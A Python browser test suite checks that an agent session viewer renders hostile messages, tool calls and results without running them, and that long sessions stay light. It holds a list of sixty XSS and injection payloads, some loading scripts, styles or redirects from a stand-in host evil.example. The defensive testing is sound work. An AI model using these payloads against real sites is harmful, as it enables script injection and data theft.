"""The page in a real Chromium: nothing that others wrote runs, and a long session stays light."""

import logging
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from left_out import not_on_this_machine
from product.harness import Product
from view.chromium import Chromium, chromium_path
from view.conftest import Shown

pytestmark = pytest.mark.slow

log = logging.getLogger(__name__)
RUNS = "ran({n})"
SHAPES = (
    "<script>{run}</script>",
    "<script src=//evil.example/{n}.js></script>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea></style><script>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=/icon.svg onload={run}>",
    "\"><img src=x onerror='{run}'>",
    "'><svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={run}>'>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<a href='javascript:{run}' autofocus onfocus={run}>open</a>",
    "[open](javascript:{run})",
    "![x](https://evil.example/{n}.png)",
    "<https://evil.example/{n}>",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>",
    "<style>@import 'https://evil.example/{n}.css';</style>",
    "<link rel=stylesheet href=https://evil.example/{n}.css>",
    "<div style='background:url(https://evil.example/{n})'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/{n}><button autofocus>x</button></form>",
    "<template><script>{run}</script></template>",
    "<noscript><img src=x onerror={run}></noscript>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<x contenteditable onblur={run} tabindex=1>",
    "${{{run}}}",
    "{{{{{run}}}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "<%= {run} %>",
    "`${{{run}}}`",
    "';{run};//",
    '";{run};//',
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\u202e<script>{run}</script>\u2066",
    "\u0000<script>{run}</script>",
    "\ufeff<scr\u200bipt>{run}</scr\u200bipt>",
    "__proto__",
    "constructor",
    '{{"type":"hold","hold":null}}',
    '{{"method":"plimsoll/view/ended","params":{{"message":"x"}}}}',
    "<portal src=https://evil.example/{n}>",
    "<img srcset=https://evil.example/{n} loading=eager>",
)
HOSTILE = tuple(
    f"H{n} " + shape.format(n=n, run=RUNS.format(n=n)) for n, shape in enumerate(SHAPES)
)
WATCH = """
window.ranOnes = []; window.violations = []; window.longTasks = [];
window.ran = n => ranOnes.push(n);
addEventListener("securitypolicyviolation", e => violations.push(e.violatedDirective));
new PerformanceObserver(found => longTasks.push(...found.getEntries().map(e => e.duration)))
  .observe({type: "longtask", buffered: true});
"""
OPEN_ALL = """
(async () => {
  const pause = () => new Promise(done => setTimeout(done, 0));
  for (const id of ["removed", "small"])
    document.querySelector(`[data-id=${id}] [data-fold][aria-expanded=false]`)?.click();
  for (const details of document.querySelectorAll("details")) details.open = true;
  const names = [...document.querySelectorAll("[data-open]")];
  const dialog = document.querySelector("dialog");
  let opened = 0;
  for (const name of names) {
    name.click();
    for (let looks = 0; !dialog.open && looks < 100; looks += 1) await pause();
    opened += dialog.open;
    dialog.close();
  }
  return opened;
})()
"""
FOREIGN = "iframe, object, embed, video, audio, math, form, input, base, style, template, a, portal"
MOST_NODES = 8000
ITEMS = int(os.environ.get("PLIMSOLL_VIEW_ITEMS", "1200"))
"""Of the long session; by hand 5000, with ``--log-cli-level=INFO`` for what it took. A task that
another process keeps waiting is long by the clock: so its time of a processor is told too."""


@pytest.fixture
def chromium(tmp_path: Path) -> Iterator[Chromium]:
    path = chromium_path()
    if path is None:
        not_on_this_machine("no Chromium")
    with Chromium(path, tmp_path / "profile") as browser:
        yield browser


def hostile_messages() -> list[dict[str, Any]]:
    """Make messages whose words, calls, files and results are all hostile."""
    found: list[dict[str, Any]] = []
    for n, text in enumerate(HOSTILE):
        arguments = {"path": f"{text}.py", "pattern": text, "command": text}
        name = ("file_read", "grep", "shell", text)[n % 4]
        call = {"id": f"c{n}", "name": name, "arguments": arguments}
        found += [
            {"role": "user", "content": text},
            {"role": "assistant", "content": text, "reasoning": text, "toolCalls": [call]},
            {"role": "tool", "toolCallId": f"c{n}", "content": f"{text}\n" * 20},
        ]
    return found


def append(product: Product, session: str, messages: list[dict[str, Any]]) -> None:
    for at in range(0, len(messages), 600):
        params = {"sessionId": session, "messages": messages[at : at + 600]}
        product.call("plimsoll/session/append", params)


def test_nothing_that_others_wrote_runs(shown: Shown, chromium: Chromium):
    assert len(HOSTILE) == 60
    product, session = shown.product, {"sessionId": shown.session}
    append(product, shown.session, hostile_messages())
    params = {**session, "detail": "detail"}
    results = [
        each["id"]
        for each in product.call("plimsoll/context/report", params)["items"]
        if each["kind"] == "toolResults"
    ]
    for at in range(0, 40, 10):
        product.call("plimsoll/context/evict", {**session, "itemIds": results[at : at + 10]})
    for text in HOSTILE[:9]:
        product.call("plimsoll/pin/add", {**session, "text": text})
    product.call("plimsoll/session/rename", {**session, "title": HOSTILE[3]})
    address = shown.address()
    chromium.opens(address, WATCH)
    chromium.waits("document.querySelectorAll('li.item').length > 3")
    chromium.waits("document.querySelectorAll('.receipt').length > 3")
    opened = chromium.value(OPEN_ALL)
    assert opened > 100
    text = chromium.value("document.body.textContent")
    assert [n for n in range(60) if f"H{n} " not in text] == []
    assert chromium.value("[ranOnes, violations]") == [[], []]
    assert chromium.value(f"document.querySelectorAll('{FOREIGN}').length") == 0
    assert chromium.value("[...document.scripts].map(each => each.src)") == [
        f"{address.partition('/#')[0]}/view.js"
    ]
    assert chromium.value("[...document.images].map(each => each.getAttribute('src'))") == [
        "/icon.svg"
    ]
    assert chromium.value("location.href") == f"{address.partition('#')[0]}"
    assert chromium.told("Page.javascriptDialogOpening") == []
    own = address.partition("/#")[0]
    asked = chromium.told("Network.requestWillBeSent", lambda params: params["request"]["url"])
    assert asked
    assert [url for url in asked if not url.startswith(f"{own}/")] == []


def test_a_long_session_stays_light(shown: Shown, chromium: Chromium):
    rows = [{"role": "user", "content": f"Row {n} of the log."} for n in range(ITEMS)]
    append(shown.product, shown.session, rows)
    chromium.begin_trace()
    chromium.opens(shown.address(), WATCH)
    chromium.waits("document.querySelector('[data-id=small] [data-fold]') !== null")
    chromium.value("document.querySelector('[data-id=small] [data-fold]').click()")
    nodes = [chromium.value("document.querySelectorAll('*').length")]
    order = "document.querySelector('[data-order]').click()"
    for step in range(6):
        chromium.value(order)
        item = (
            "[...document.querySelectorAll('li.item')].filter(each => /Row/.test(each.textContent))"
        )
        chromium.value(f"{item}[40].querySelector('[data-act=evict]').click()")
        chromium.waits(f"document.querySelectorAll('.receipt').length > {step}")
        nodes.append(chromium.value("document.querySelectorAll('*').length"))
    by_clock, of_processor = chromium.value("Math.max(0, ...longTasks)"), chromium.longest_task()
    told = (
        "%d items: %d nodes, longest task %.1f ms by the clock (0: under 50), %.1f of a processor"
    )
    log.info(told, ITEMS, max(nodes), by_clock, of_processor)
    assert max(nodes) < MOST_NODES
    assert chromium.value("document.querySelectorAll('li.item').length") == 300
    assert "more in the context report" in chromium.value("document.body.textContent")
